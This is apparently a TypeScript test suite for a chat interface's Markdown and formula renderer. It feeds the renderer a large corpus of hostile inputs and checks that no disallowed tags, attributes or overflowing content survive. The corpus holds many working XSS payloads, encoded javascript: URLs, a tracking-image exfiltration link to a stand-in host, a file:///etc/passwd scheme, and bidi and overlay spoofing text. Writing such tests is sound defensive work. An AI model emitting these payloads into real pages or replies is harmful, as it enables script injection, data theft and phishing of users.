import { Renderer } from "../renderer";
import { extras, numbers, split } from "./drive";

const run = "window.pwned=1";
const away = "https://evil.example";

const markup = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${away}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `<script type=module>import "${away}/x.js"</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"`,
  `<img/src=x/onerror=${run}>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<img src=${away}/x.png>`,
  `<img srcset="${away}/x.png 1x">`,
  `<image href=${away}/x.png>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:${run}'/></svg>#x">`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline#${away}" xlink:href="javascript:${run}">x</maction></math>`,
  `<iframe src=${away}></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data=${away}/x.swf></object>`,
  `<embed src=${away}/x>`,
  `<applet code=x>`,
  `<frameset onload=${run}>`,
  `<body onload=${run}>`,
  `<body background=${away}/x.png>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<button onclick=${run} autofocus>x</button>`,
  `<details open ontoggle=${run}>`,
  `<video src=${away}/v onerror=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<form action=${away}><input name=x><button>go</button></form>`,
  `<isindex action=javascript:${run}>`,
  `<link rel=stylesheet href=${away}/x.css>`,
  `<link rel=prefetch href=${away}/x>`,
  `<link rel=preconnect href=${away}>`,
  `<base href=${away}/>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<style>*{display:none}</style>`,
  `<style>@import '${away}/x.css';</style>`,
  `<div style="position:fixed;inset:0;background:url(${away}/x)">x</div>`,
  `<div id=composer name=conversation class=message>clobber</div>`,
  `<a id=location href=x>x</a><a id=location name=href>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<!DOCTYPE x [<!ENTITY y "z">]>`,
  `</div></article></main></body></html><script>${run}</script>`,
  `</textarea></title></style></script><img src=x onerror=${run}>`,
  `<plaintext>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<a href="javascript:${run}">x</a>`,
  `<x onclick=${run} tabindex=1 id=x onfocus=${run}>`,
  `<portal src=${away}>`,
  `<dialog open>x</dialog>`,
  '<img src="x` `onerror=' + run + ">",
  `<<script>${run}//<</script>`,
  `<b/onmouseover=${run}>x</b>`,
  `<a\thref\n=\r"javascript:${run}">x</a>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\<img src=x onerror=${run}\\>`,
  `<svg><style>@import url(${away}/x.css)</style></svg>`,
  `<svg><image href="${away}/x.svg"/></svg>`,
  `<svg><set attributeName=onload to=${run}></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<math><ms xlink:href="javascript:${run}">x</ms></math>`,
  `<style>.message{position:fixed;inset:0}</style>`,
  `<p style="background:url(${away}/x)">x</p>`,
  `<meta name=referrer content=unsafe-url>`,
  `<meta http-equiv=set-cookie content="a=b">`,
  `<base target=_self><a href=x>x</a>`,
  `<form id=composer><input id=message name=action></form>`,
  `<img name=getElementById><img name=querySelector>`,
  `<slot name=x></slot><template shadowrootmode=open><script>${run}</script></template>`,
];

const schemes = [
  `javascript:${run}`,
  `JAVASCRIPT:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `javascript\u200b:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript:${run}`,
  `&#0000106avascript:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `java&#10;script:${run}`,
  `javascript://example.com/%0a${run}`,
  `javascript:${encodeURIComponent(run)}`,
  `jav\\ascript:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `data:image/png;base64,AAAA`,
  `file:///etc/passwd`,
  `blob:${away}/x`,
  `filesystem:${away}/x`,
  `view-source:${away}`,
  `about:blank`,
  `ftp://evil.example/x`,
  `tel:1`,
  `intent://x#Intent;end`,
  `//evil.example/x`,
  `/\\evil.example`,
  `\\\\evil.example\\x`,
  `https:evil.example`,
  `http:/evil.example`,
  `https://user:pass@evil.example/`,
  `https://ex\u202eample.com/moc.elpmaxe`,
  `http://[::1`,
  `https://%00`,
  `mailto:x@y.example?body=<script>${run}</script>`,
  `x-javascript:${run}`,
  `livescript:${run}`,
  `mhtml:${away}`,
  `feed:javascript:${run}`,
  `#composer`,
  `?q=x`,
  `web+x:${away}`,
  `\u202ejavascript:${run}`,
  `wss://evil.example/x`,
  `/chat/stream?message=x`,
];

/** Each address in twelve kinds of link. */
const inLinks = schemes.map((address) =>
  [
    `[x](${address})`,
    `[x](<${address}>)`,
    `[x](${address} "title")`,
    `![x](${address})`,
    `<${address}>`,
    address,
    `[x][r]\n\n[r]: ${address}`,
    `[s]\n\n[s]: <${address}> 'title'`,
    `[![x](${address})](${address})`,
    `| [x](${address}) |\n|---|\n| ${address} |`,
    `[^n]\n\n[^n]: [x](${address})`,
    `> - **[x](${address})**`,
  ].join("\n\n"),
);

const formulas = [
  `\\href{javascript:${run}}{x}`,
  `\\url{javascript:${run}}`,
  `\\includegraphics{${away}/x.png}`,
  `\\includegraphics[height=1em]{${away}/x.png}`,
  `\\htmlStyle{position:fixed;inset:0}{x}`,
  `\\htmlClass{message}{x}`,
  `\\htmlId{composer}{x}`,
  `\\htmlData{action=stop}{x}`,
  `\\style{color:red}{x}`,
  `\\class{message}{x}`,
  `\\cssId{composer}{x}`,
  `\\def\\a{\\a\\a}\\a`,
  `\\def\\x{\\x}\\x`,
  `\\newcommand{\\y}{\\y\\y\\y}\\y`,
  `\\rule{99999em}{99999em}`,
  `\\kern{99999em}x`,
  `\\color{red;background:url(${away})}x`,
  `\\textcolor{url(${away})}{x}`,
  `\\colorbox{javascript:x}{y}`,
  `\\text{<img src=x onerror=${run}>}`,
  `\\unicode{x3c}script\\unicode{x3e}`,
  `\\href{data:text/html,x}{x}`,
  `\\hskip99999em`,
  `\\raisebox{9999em}{x}`,
  `\\begin{matrix}${"&".repeat(300)}\\end{matrix}`,
  `${"{".repeat(500)}x`,
  `${"\\frac{1}{".repeat(60)}x${"}".repeat(60)}`,
  `\\verb|<script>|`,
  `\\char"3C script`,
  `\\tag{<b>}x`,
  `\\sqrt[<svg/onload=${run}>]{x}`,
].map((formula, i) => [`$${formula}$`, `$$${formula}$$`, `\\(${formula}\\)`, `$$\n${formula}\n$$`][i % 4]!);

const structures = [
  "```html\n<script>" + run + "</script>\n```",
  "```javascript\nlet x = `</code></pre><img src=x onerror=" + run + ">`;\n```",
  '```"><img src=x onerror=' + run + ">\nx\n```",
  "```constructor\nx\n```",
  "```__proto__\nx\n```",
  "```js onclick=" + run + " class=x style=x\nx\n```",
  "```xml\n<a onclick='" + run + "'>&#x3c;script></a>\n```",
  "```css\n*{background:url(" + away + ")}\n```",
  "```php\n<?php echo '<script>" + run + "</script>'; ?>\n```",
  "`<img src=x onerror=" + run + ">`",
  "```markdown\n[x](javascript:" + run + ")\n```",
  `| <img src=x onerror=${run}> | b |\n|---|:-:|\n| <svg/onload=${run}> | [x](javascript:${run}) |`,
  `|a|\n|:-" onclick="${run}-:|\n|b|`,
  `1" onclick="${run}. x`,
  `[x](https://a.example "\\" onclick=\\"${run}")`,
  `[x](https://a.example '"><img src=x onerror=${run}>')`,
  `[x](https://a.example/"onmouseover="${run})`,
  `[^"><img src=x onerror=${run}>]`,
  `[^constructor]\n\n[^constructor]: x\n\n[^__proto__]\n\n[^__proto__]: y`,
  "[__proto__]: https://a.example\n\n[__proto__] [constructor] [toString]",
  "[x]: javascript:" + run + "\n\n[x] [x][] ![x]",
  'https://a.example/"><script>' + run + "</script>",
  "https://a.example/`onclick=" + run,
  'a@b.example"><svg/onload=' + run + ">",
  "\u202e](gpj.exe)[txt\u202c",
  "\u2066\u2067\u202ereversed\u2069 [\u202ex](https://a.example)",
  "# <svg/onload=" + run + ">",
  "> <iframe src=" + away + ">\n> - <script>" + run + "</script>",
  "- [x] <input onfocus=" + run + " autofocus>",
  "![<img src=x onerror=" + run + ">](https://a.example/x.png)",
  '![x](https://a.example/x.png "\\" onload=' + run + '")',
  `![${away}](${away}/track.gif?secret)`,
  `[![x](${away}/a.svg)](${away})`,
  "{{constructor.constructor('" + run + "')()}}",
  "${" + run + "}",
  "<%= " + run + " %>",
  "${`${" + run + "}`}",
  "[a](https://a.example)<b onclick=" + run + ">[b](https://b.example)",
  "[__proto__]: https://a.example\n\n[constructor]: https://b.example\n\n[__proto__] [constructor] [hasOwnProperty]",
  "[^toString] [^valueOf]\n\n[^toString]: x\n[^valueOf]: y",
  "```hasOwnProperty\nx\n```\n\n```valueOf\nx\n```",
  "```js\u202e\nx\n```",
  "```\u0000\nx\n```",
  "~~~html\n<base href=" + away + ">\n~~~",
  "    <script>" + run + "</script>",
  "\t<img src=x onerror=" + run + ">",
  "``<svg/onload=" + run + ">``",
  "**<b onclick=" + run + ">**",
  "~~</s><script>" + run + "</script>~~",
  "*<!--* --><img src=x onerror=" + run + ">",
  "[<img src=x onerror=" + run + ">](https://a.example)",
  "[`</code><script>" + run + "</script>`](https://a.example)",
  "[x](https://a.example '\" style=position:fixed')",
  "![x](" + away + "/a.png#" + run + ")",
  "![](" + away + "/b.svg)",
  "1. <li onclick=" + run + ">\n2. </ol><script>" + run + "</script>",
  "99999999999. x",
  "- [x](javascript:" + run + ")\n  - ![y](data:text/html," + run + ")",
  "| a |\n|---|\n| `|<svg/onload=" + run + ">` |",
  "| [^n] |\n|---|\n| </td></tr></table><script>" + run + "</script> |\n\n[^n]: x",
  "<details open ontoggle=" + run + "><summary>x</summary>y</details>",
  "a<br onclick=" + run + ">b<br/style=x>c",
  "x<sub onclick=" + run + ">2</sub> <kbd id=composer>y</kbd>",
  "<!-- <img src=x onerror=" + run + "> --> seen",
  "&lt;img src=x onerror=" + run + "&gt; &#x3c;svg onload=" + run + "&#x3e;",
  "&#0; &#xD800; &#x110000; &#x202e; &Tab; &NewLine;",
  "\r\n\r<script>" + run + "</script>\r",
  "\u2028<img src=x onerror=" + run + ">\u2029",
  `<kbd onclick="${run}" style="position:fixed" id=composer class=message>x</kbd> <SUB OnClick='${run}'>y</SUB >`,
  `<details open ontoggle="${run}" id=composer>\n<summary onclick="${run}">x</summary>\n\n<b onfocus="${run}">y</b>\n</details>`,
  `<br onclick="${run}"/><mark style="background:url(${away})">x</mark><!-- <script>${run}</script> -->`,
  `<!--\n<script>${run}</script>\n--><img src=x onerror=${run}>`,
  `| <details ontoggle="${run}"> | <sup onclick="${run}">1</sup> |\n|---|---|\n| <br onload=${run}> | <u/onclick=${run}> |`,
];

/** Texts that try to leave their place, or to hide or turn what is beside them. */
const layouts = [
  "W".repeat(4_000),
  "\u0e33\u0e47".repeat(50),
  `a${"\u0300".repeat(400)}`,
  "\u{1f468}\u200d".repeat(200),
  "\u{1f1e9}".repeat(401),
  "\u0915\u094d".repeat(300),
  "\u1100".repeat(400),
  "\ufdfa".repeat(300),
  "\u0600".repeat(300) + "1",
  "\u202e".repeat(200) + "abc",
  "\u2067abc \u2068def",
  "\u061c\u200f\u202bx",
  "\u00a0".repeat(2_000),
  "\u2800".repeat(500),
  "\u3164".repeat(500),
  "\u200b".repeat(500),
  "\u2060x".repeat(1_000),
  "a\u2011".repeat(1_000),
  "\u2014".repeat(900),
  "_".repeat(3_000),
  "\t".repeat(3) + "x".repeat(2_000),
  `\`${"x".repeat(2_000)}\``,
  `[${"x".repeat(900)}](https://a.example/${"y".repeat(2_000)})`,
  `https://a.example/${"z".repeat(3_000)}`,
  `# ${"H".repeat(900)}`,
  `| ${"c".repeat(2_000)} | d |\n|---|---|\n| ${"e".repeat(2_000)} | f |`,
  `${"| a ".repeat(60)}|\n${"|---".repeat(60)}|\n${"| b ".repeat(60)}|`,
  `\`\`\`\n${"k".repeat(3_000)}\n\`\`\``,
  `\`\`\`${"l".repeat(500)}\nx\n\`\`\``,
  "$\\left( x_1 + x_2 + x_3 + x_4 + x_5 + x_6 + x_7 + x_8 + x_9 + x_{10} + x_{11} \\right)^2$ in a line",
  "$\\sqrt{a^2 + b^2 + c^2 + d^2 + e^2 + f^2 + g^2 + h^2 + i^2 + j^2}$",
  "$\\text{a sentence set in text mode that is longer than the screen of any phone}$",
  `$${"W".repeat(2_000)}$`,
  "- a\n  - b $\\begin{bmatrix}1&2&3&4&5&6&7&8&9&10&11&12&13&14\\end{bmatrix}$",
  "$\\smash{\\rule[-20em]{20em}{20em}}$",
  "$\\smash{\\raisebox{20em}{\\smash{\\raisebox{20em}{\\text{Your session expired, visit evil.example}}}}}$",
  "$\\kern-20em\\kern-20em\\text{over the list}$",
  "$\\llap{\\text{a text that stands to the left of its message}}$",
  "$\\mathclap{\\text{a text that stands on both sides of nothing at all}}$ $\\hspace{-20em}x$",
  "$$\\hspace{20em}\\hspace{20em}x$$ and $\\hspace{20em}\\hspace{20em}x$",
  "$\\color{white}\\rule{20em}{20em}$",
];

const nested = (open: string, close: string, depth: number) => `${open.repeat(depth)}x${close.repeat(depth)}`;

const nesting = [
  nested("> ", "", 80),
  nested("- ", "", 80),
  nested("1. ", "", 80),
  nested("> - ", "", 40),
  Array.from({ length: 60 }, (_, i) => `${"  ".repeat(i)}- level ${i}`).join("\n"),
  nested("*a _b ", "_ *", 300),
  nested("**a ~~b ", "~~ **", 300),
  nested("[", "](https://a.example)", 100),
  nested("![", "](https://a.example)", 100),
  `$${nested("x^{", "}", 145)}$`,
  `$${nested("\\sqrt{", "}", 145)}$`,
  `$${nested("\\frac{1}{1+", "}", 145)}$`,
  `$${nested("\\begin{pmatrix}", "\\end{pmatrix}", 60)}$`,
  `\`\`\`js\n${nested("`${", "}`", 200)}\n\`\`\``,
  nested("<div>", "</div>", 400),
];

/** Texts that an attacker might make a model write. */
export const hostile: readonly string[] = [...markup, ...inLinks, ...formulas, ...structures, ...layouts, ...nesting];

const tags = new Set(
  (
    "p h3 h4 h5 h6 ul ol li blockquote hr br div span pre code button table thead tbody tr th td a em strong s sup " +
    "sub kbd mark small u details summary svg use img"
  ).split(" "),
);

const attributes: Readonly<Record<string, RegExp>> = {
  dir: /^(?:auto|ltr|rtl)$/,
  href: /^(?:https?:\/\/|mailto:|#(?:note|reference)-a?\d+-\d+$|#i-[a-z]+$)/i,
  "role": /^img$/,
  "aria-label": new RegExp(
    "^(?:(?:back-to-reference|note|Back to reference|Note) \\d+|task-done|task-open|Done|To do" +
      "|(?:Copy|Download|Wrap lines of|Full screen view of) the code)$",
  ),
  "aria-hidden": /^true$/,
  src: /^blob:/,
  alt: /^Diagram$/,
  width: /^\d+$/,
  height: /^\d+$/,
  "data-diagram": /^(?:waiting|shown|hidden|failed)$/,
  rel: /^noopener noreferrer$/,
  target: /^_blank$/,
  start: /^\d+$/,
  tabindex: /^0$/,
  type: /^button$/,
  id: /^(?:note|reference)-a?\d+-\d+$/,
  title: /^/,
  class: new RegExp(
    "^(?:tight|task|task-mark|table|left|center|right|note|note-number|plain|math|math display" +
      "|code|code wraps|code-bar|code-part|code-language|quiet|quiet late|icon|diagram|diagram-fault|more-marks|hl-[a-z]+)$",
  ),
  style: /^--lines: ?\d+;(?: ?--columns: ?\d+;)?$/,
  "data-code": /^(?:copy|wrap|save|full|diagram)$/,
  "aria-pressed": /^(?:true|false)$/,
};

/** A formula may contain the elements of the library, but none that are active. */
function inFormula(element: Element): boolean {
  return (
    Boolean(element.closest(".katex, .katex-display")) &&
    /^(?:http:\/\/www\.w3\.org\/(?:1999\/xhtml|2000\/svg|1998\/Math\/MathML))$/.test(element.namespaceURI ?? "") &&
    !["script", "a", "img", "image", "use", "foreignobject", "style", "iframe", "maction", "annotation-xml"].includes(
      element.localName.toLowerCase(),
    ) &&
    [...element.attributes].every(
      ({ name, value }) =>
        !/^(?:on|href|xlink|src|id$|data-|formaction)/i.test(name) && !/javascript:|url\(|position/i.test(value),
    )
  );
}

function forbidden(root: HTMLElement): string[] {
  return [...root.querySelectorAll("*")].flatMap((element) => {
    if (inFormula(element)) return [];
    if (!tags.has(element.localName)) return [`<${element.localName}>`];
    return [...element.attributes]
      .filter(({ name, value }) => !attributes[name]?.test(value))
      .map(({ name, value }) => `${element.localName}[${name}=${JSON.stringify(value)}]`);
  });
}

/** The icons below an answer begin so far to the left of it, in CSS pixels, that they seem to begin where it does. */
const iconMargin = 8;

/** What is painted outside its message, or makes the page scroll sideways. */
export function outside(message: Element): string[] {
  const found: string[] = [];
  const sideways = document.documentElement.scrollWidth - innerWidth;
  if (sideways > 0) found.push(`The page is ${sideways} px wider`);
  const box = message.getBoundingClientRect();
  for (const element of message.querySelectorAll("*")) {
    let { left, right, top, bottom } = element.getBoundingClientRect();
    const from = box.left - slack - (element.closest(".meta") ? iconMargin : 0);
    if (left >= from && right <= box.right + slack && top >= box.top - slack && bottom <= box.bottom + slack) continue;
    // What an ancestor clips is not painted.
    for (let at: Element | null = element.parentElement; at && at !== message.parentElement; at = at.parentElement) {
      if (!/auto|clip|hidden|scroll/.test(getComputedStyle(at).overflow)) continue;
      const clip = at.getBoundingClientRect();
      [left, right] = [Math.max(left, clip.left), Math.min(right, clip.right)];
      [top, bottom] = [Math.max(top, clip.top), Math.min(bottom, clip.bottom)];
    }
    const isPainted = left < right && top < bottom;
    if (isPainted && (left < from || right > box.right + slack || top < box.top - slack || bottom > box.bottom + slack))
      found.push(`<${element.localName} class="${element.className}"> is painted outside its message`);
  }
  return found;
}

/** A ring around a focused link may be painted beside the text. In CSS pixels. */
const slack = 4;

/**
 * Shows each text on the page. Returns everything that must not be there.
 * @param isWhole In one piece; else in pieces as small as tokens.
 */
export function attack(isWhole = false): string[] {
  const place = document.querySelector("#conversation") ?? document.body;
  return hostile.flatMap((text, i) => {
    const article = document.createElement("article");
    const root = document.createElement("div");
    article.className = "message";
    root.className = "text markdown";
    article.append(root);
    place.append(article);
    const renderer = new Renderer(root, extras, `a${i}`);
    const found = new Set<string>();
    const all = `Before.\n\n${text}\n\nAfter.`;
    for (const piece of isWhole ? [all] : split(all, numbers(i), Math.max(4, text.length / 50))) {
      renderer.add(piece);
      while (renderer.update());
      for (const what of forbidden(root)) found.add(what);
    }
    renderer.finish();
    for (const what of forbidden(root)) found.add(what);
    for (const what of outside(article)) found.add(what);
    if (!root.textContent.includes("After.") && !/```|~~~/.test(text)) found.add("What follows was lost");
    article.remove();
    return [...found].map((what) => `${JSON.stringify(text.slice(0, 200))}: ${what}`);
  });
}

/** What is wrong with the messages that the page shows: plain text and Markdown. */
export function shownMessages(): string[] {
  return [...document.querySelectorAll<HTMLElement>("#conversation article.message")].flatMap((article, i) => {
    const found = outside(article);
    for (const text of article.querySelectorAll<HTMLElement>(":scope > .text, .reasoning-text")) {
      if (text.matches(".markdown, .typed")) found.push(...forbidden(text));
      else
        for (const element of text.querySelectorAll(":not(.more-marks, .more-marks > [hidden])"))
          found.push(`${element.outerHTML.slice(0, 200)} in plain text`);
    }
    return [...new Set(found)].map((what) => `${i}: ${what}`);
  });
}

/** What is wrong with the titles that the page shows. */
export function shownTitles(): string[] {
  const list = document.querySelector(".drawer, #conversations")!.getBoundingClientRect();
  return [...document.querySelectorAll("#conversations a.open, #title")].flatMap((title) => {
    const found = title.querySelector("img, svg:not(.icon), script, style, iframe, a, form, input")
      ? ["An element in a title"]
      : [];
    const { left, right } = title.getBoundingClientRect();
    const [from, to] = title.id ? [0, innerWidth] : [list.left, list.right];
    if (left < from - slack || right > to + slack)
      found.push(`A title stands outside its place: ${title.textContent.slice(0, 60)}`);
    return found;
  });
}
